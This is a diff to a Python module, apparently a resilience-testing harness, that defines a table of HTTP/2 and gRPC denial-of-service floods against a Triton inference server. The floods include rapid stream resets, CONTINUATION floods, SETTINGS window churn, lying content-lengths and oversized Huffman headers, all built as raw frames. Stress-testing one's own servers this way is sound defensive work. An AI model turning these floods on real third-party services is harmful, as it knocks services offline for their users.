@@ -11,6 +11,7 @@ import sys
 from collections.abc import Awaitable, Callable, Mapping
 from contextlib import suppress
 from functools import partial
+from typing import Any
 
 import hpack
 
@@ -19,6 +20,7 @@ from orchestrator.http2.frames import (
     CONTINUATION,
     DATA,
     HEADERS,
+    INITIAL_WINDOW_SIZE,
     PING,
     PREFACE,
     PRIORITY,
@@ -26,6 +28,7 @@ from orchestrator.http2.frames import (
     SETTINGS,
     WINDOW_UPDATE,
     frame,
+    settings_frame,
 )
 from orchestrator.http2.grpc.wire import pack_message
 from orchestrator.triton.messages import SERVICE
@@ -92,14 +95,15 @@ async def _flood(grpc: str, http: str, *, repeated: bytes, first: bytes = b"") -
     await _again(lambda: _send_on(grpc, _OPENING + first, lambda number: chunk))
 
 
-async def _flood_of_streams(grpc: str, http: str, *, head: bytes, each: int, resets: bool = False) -> None:
-    """Open streams without an end, ``each`` a write; they are over at once, or reset as soon as they are open."""
-    flags = _END_HEADERS if resets else _END_HEADERS | _END_STREAM
+async def _flood_of_streams(
+    grpc: str, http: str, *, head: bytes, each: int, flags: int = _END_HEADERS | _END_STREAM, after: bytes = b""
+) -> None:
+    """Open streams without an end, ``each`` a write; what comes ``after`` a head has the type, flags and content."""
 
     def chunk(number: int) -> bytes:
         first = 2 * number * each + 1
         return b"".join(
-            frame(HEADERS, flags, stream, head) + (frame(RST_STREAM, 0, stream, _code(8)) if resets else b"")
+            frame(HEADERS, flags, stream, head) + (frame(after[0], after[1], stream, after[2:]) if after else b"")
             for stream in range(first, first + 2 * each, 2)
         )
 
@@ -190,6 +194,13 @@ async def _slow_bodies(grpc: str, http: str, *, count: int = 9) -> None:
     await asyncio.gather(*(_again(post, pause_s=0.1) for _ in range(count)))
 
 
+def _streams(head: bytes, *, each: int = 2000, **more: Any) -> Attack:
+    return partial(_flood_of_streams, head=head, each=each, **more)
+
+
+_EMPTY_MESSAGE = bytes((DATA, _END_STREAM)) + pack_message(b"")
+
+
 def _refused_head() -> bytes:
     encoder = hpack.Encoder()
     return encoder.encode([(":method", "POST"), (":path", "/x"), ("connection", "close")])
@@ -214,10 +225,22 @@ ATTACKS: Mapping[str, Attack] = {
         _flood, first=frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer")), repeated=frame(DATA, 0, 1, b"")
     ),
     "continuations": partial(_flood, first=frame(HEADERS, 0, 1, b""), repeated=frame(CONTINUATION, 0, 1, b"")),
-    "rapid-resets": partial(_flood_of_streams, head=_head("ModelInfer"), each=2000, resets=True),
-    "refused-heads": partial(_flood_of_streams, head=_refused_head(), each=2000),
-    "unknown-methods": partial(_flood_of_streams, head=_head("Nothing"), each=2000),
-    "huffman": partial(_flood_of_streams, head=_head("Nothing", ("x", "0" * 12_000)), each=20),
+    "window-changes": partial(
+        _flood,
+        first=b"".join(frame(HEADERS, _END_HEADERS, stream, _head("ModelInfer")) for stream in range(1, 2001, 2)),
+        repeated=settings_frame([(INITIAL_WINDOW_SIZE, 65535)]) + settings_frame([(INITIAL_WINDOW_SIZE, 65534)]),
+    ),
+    "rapid-resets": _streams(_head("ModelInfer"), flags=_END_HEADERS, after=bytes((RST_STREAM, 0)) + _code(8)),
+    "opened-calls": _streams(_head("ModelInfer"), flags=_END_HEADERS),
+    "refused-heads": _streams(_refused_head()),
+    "heads-without-path": _streams(b"\x83\x86\x84"),
+    "unknown-methods": _streams(_head("Nothing")),
+    "lying-lengths": _streams(
+        _head("ServerLive", ("content-length", "9")), flags=_END_HEADERS, after=bytes((DATA, _END_STREAM))
+    ),
+    "live-calls": _streams(_head("ServerLive"), flags=_END_HEADERS, after=_EMPTY_MESSAGE),
+    "index-calls": _streams(_head("RepositoryIndex"), flags=_END_HEADERS, after=_EMPTY_MESSAGE),
+    "huffman": _streams(_head("Nothing", *((f"x-{n}", "&~'" * 400) for n in range(8))), each=20),
     "open-calls": _open_calls,
     "unread-answers": _unread_answers,
     "slow-bodies": _slow_bodies,
